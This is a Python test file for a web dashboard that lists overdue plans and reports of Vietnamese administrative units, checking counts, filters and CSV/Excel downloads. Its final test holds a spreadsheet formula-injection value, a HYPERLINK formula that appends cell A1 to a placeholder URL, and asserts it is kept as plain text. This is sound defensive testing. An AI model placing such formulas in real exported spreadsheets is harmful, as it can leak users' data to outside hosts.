"""The gaps dashboard and its downloads over real HTTP: the rows, counts and chart of the sample
corpus (checked by hand against `kg gaps`), the filters as `kg gaps` has them, and CSV and Excel
files holding exactly the rows of `kg gaps --format csv`."""

from __future__ import annotations

import csv
import gc
import io
import re
from urllib.parse import urlencode

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from directive_kg.kg.answers.units import load_roster
from directive_kg.kg.cli.main import main
from directive_kg.kg.store.load import load_paths
from tests.conftest import CORPUS, ROOT
from tests.webserver import serve

KIEN_GIANG = "UBND tỉnh Kiên Giang"
# the 15 district-level units of Kiên Giang in 2024 (registry), each owing a plan and a report
KG_DISTRICTS = ["Ủy ban nhân dân huyện An Biên", "Ủy ban nhân dân huyện An Minh",
                "Ủy ban nhân dân huyện Châu Thành", "Ủy ban nhân dân huyện Giang Thành",
                "Ủy ban nhân dân huyện Giồng Riềng", "Ủy ban nhân dân huyện Gò Quao",
                "Ủy ban nhân dân huyện Hòn Đất", "Ủy ban nhân dân huyện Kiên Hải",
                "Ủy ban nhân dân huyện Kiên Lương", "Ủy ban nhân dân huyện Tân Hiệp",
                "Ủy ban nhân dân huyện U Minh Thượng", "Ủy ban nhân dân huyện Vĩnh Thuận",
                "Ủy ban nhân dân thành phố Hà Tiên", "Ủy ban nhân dân thành phố Phú Quốc",
                "Ủy ban nhân dân thành phố Rạch Giá"]
# and its other owing units: the 8 departments and the Văn phòng of the roster, and the class of
# public service units no roster lists
KG_PROVINCE_LEVEL = ["Sở Giáo dục và Đào tạo tỉnh Kiên Giang", "Sở Kế hoạch và Đầu tư tỉnh Kiên Giang",
                     "Sở Lao động - Thương binh và xã hội tỉnh Kiên Giang", "Sở Nội vụ tỉnh Kiên Giang",
                     "Sở Tài chính tỉnh Kiên Giang", "Sở Tư pháp tỉnh Kiên Giang",
                     "Sở Văn hóa và Thể thao tỉnh Kiên Giang", "Sở Y tế tỉnh Kiên Giang",
                     "Văn phòng Ủy ban nhân dân tỉnh Kiên Giang",
                     "các đơn vị sự nghiệp công lập thuộc Ủy ban nhân dân tỉnh"]


@pytest.fixture(scope="module")
def store_dir(tmp_path_factory, new_store):
    folder = tmp_path_factory.mktemp("web-dashboard") / "kg"
    s = new_store(folder)
    assert load_paths(s, [str(CORPUS)]).ok
    load_roster(s, str(ROOT / "samples" / "roster.csv"))
    del s
    gc.collect()
    return folder


@pytest.fixture(scope="module")
def server(store_dir):
    with serve(store_dir) as srv:
        yield srv


def rows_of(html: str) -> list[str]:
    return re.findall(r'<tr class="kg-row [^"]*" data-href="[^"]*" data-unit="([^"]*)"', html)


def test_front_page_shows_the_2024_rows_with_counts_and_a_chart(server):
    page = server.get("/?" + urlencode({"as_of": "2025-01-01"}))  # the year: the latest with rows
    assert page.status == 200
    html = page.text
    assert 'name="year" value="2024"' in html
    assert len(rows_of(html)) == 79  # as `kg gaps --year 2024 --as-of 2025-01-01`: all overdue
    counts = dict(re.findall(r'data-status="(\w+)">\s*<span class="kg-count-n">(\d+)<', html))
    assert counts == {"overdue": "79", "not_due": "0", "done_late": "0", "done_on_time": "0"}
    bars = dict(re.findall(r'data-label="([^"]*)" data-total="(\d+)"', html))
    assert bars == {"Tỉnh Kiên Giang": "51", "Tỉnh Bắc Kạn": "28"}  # one bar per province
    # the evidence links to the obliging sentence in its document
    assert 'href="/document/' in html and "#L77" in html
    assert 'href="/gaps.xlsx?year=2024&amp;as_of=2025-01-01&amp;show=open"' in html
    assert 'id="kg-incomplete-none"' in html  # no 2024 document was read incompletely


def test_filter_under_a_province_keeps_its_units_and_charts_its_districts(server):
    html = server.get("/?" + urlencode({"year": 2024, "as_of": "2025-01-01", "under": KIEN_GIANG})).text
    units = rows_of(html)
    assert len(units) == 51  # a plan and a report from each, and one more report of Sở Nội vụ
    assert sorted(set(units)) == sorted(KG_DISTRICTS + KG_PROVINCE_LEVEL)
    bars = dict(re.findall(r'data-label="([^"]*)" data-total="(\d+)"', html))
    assert bars == {**{d: "2" for d in KG_DISTRICTS}, "Cấp tỉnh · province level": "21"}
    plans = rows_of(server.get("/?" + urlencode({"year": 2024, "as_of": "2025-01-01",
                                                  "under": KIEN_GIANG, "kind": "plan"})).text)
    assert len(plans) == 25
    done = server.get("/?" + urlencode({"year": 2024, "as_of": "2025-01-01", "show": "done_on_time"}))
    assert rows_of(done.text) == [] and 'id="kg-no-rows"' in done.text
    early = server.get("/?" + urlencode({"year": 2024, "as_of": "2024-06-01"})).text
    counts = dict(re.findall(r'data-status="(\w+)">\s*<span class="kg-count-n">(\d+)<', early))
    assert counts["not_due"] == "79" and counts["overdue"] == "0"  # due 31 December


def test_bad_filters_are_said_on_the_page(server):
    bad = server.get("/?year=abc")
    assert bad.status == 400 and "year must be a number, not &#39;abc&#39;" in bad.text
    nobody = server.get("/?" + urlencode({"year": 2024, "under": "UBND tỉnh Nowhere"}))
    assert nobody.status == 404 and 'id="kg-error"' in nobody.text and "Nowhere" in nobody.text
    assert server.get("/gaps.pdf?year=2024").status == 404


def kg_gaps_csv(store_dir, *extra: str) -> str:
    r = CliRunner().invoke(main, ["gaps", "--year", "2024", "--as-of", "2025-01-01", "--format", "csv",
                                  "--store", str(store_dir), *extra])
    assert r.exit_code == 0, r.output
    return r.stdout


@pytest.mark.parametrize("show, flags", [("open", ()), ("all", ("--all",))])
def test_downloads_hold_the_rows_of_kg_gaps_csv(server, store_dir, show, flags):
    query = urlencode({"year": 2024, "as_of": "2025-01-01", "under": KIEN_GIANG, "show": show})
    expected_text = kg_gaps_csv(store_dir, "--under", KIEN_GIANG, *flags)
    expected = list(csv.reader(io.StringIO(expected_text.lstrip("\ufeff"))))
    assert len(expected) == 52 and expected[0][0] == "unit"
    got_csv = server.get("/gaps.csv?" + query)
    assert got_csv.headers["content-type"] == "text/csv; charset=utf-8"
    assert got_csv.body.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    # (the test runner reads the command's "\r\n" as "\n"; the file has CSV's own "\r\n")
    assert got_csv.body.decode("utf-8").replace("\r\n", "\n") == expected_text
    got = server.get("/gaps.xlsx?" + query)
    assert got.status == 200
    assert got.headers["content-disposition"] == 'attachment; filename="gaps-2024-2025-01-01.xlsx"'
    wb = load_workbook(io.BytesIO(got.body))
    ws = wb["Gaps"]
    cells = [["" if c is None else c.isoformat()[:10] if hasattr(c, "isoformat") else str(c)
              for c in row] for row in ws.iter_rows(values_only=True)]
    assert cells == expected
    assert ws.freeze_panes == "B2" and ws.auto_filter.ref == "A1:T52"
    assert ws["A1"].font.b and ws.column_dimensions["P"].width == 90  # evidence_text
    assert ws["H2"].number_format == "yyyy-mm-dd" and ws["H2"].is_date  # due: a real date
    assert wb["Notes"]["A1"].value == "Gaps 2024"


def test_a_sentence_starting_with_equals_stays_text_in_the_workbook():
    from datetime import date

    from openpyxl import load_workbook as load

    from directive_kg.kg.answers.gaps import GapEvidence, GapReport, GapRow
    from directive_kg.kg.web.downloads import xlsx_bytes

    evil = '=HYPERLINK("http://example.invalid/?"&A1,"bấm")\x07'
    row = GapRow("=1+1", "urn:u", None, "plan", "1/KH-UBND", None, None, "urn:i", None,
                 date(2024, 12, 31), "overdue", True, None, None, GapEvidence("f.txt", 3, evil))
    ws = load(io.BytesIO(xlsx_bytes(GapReport(2024, date(2025, 1, 1), [row]), "t")))["Gaps"]
    assert ws["A2"].data_type == "s" and ws["A2"].value == "=1+1"
    assert ws["P2"].data_type == "s" and ws["P2"].value == evil[:-1] + "\ufffd"
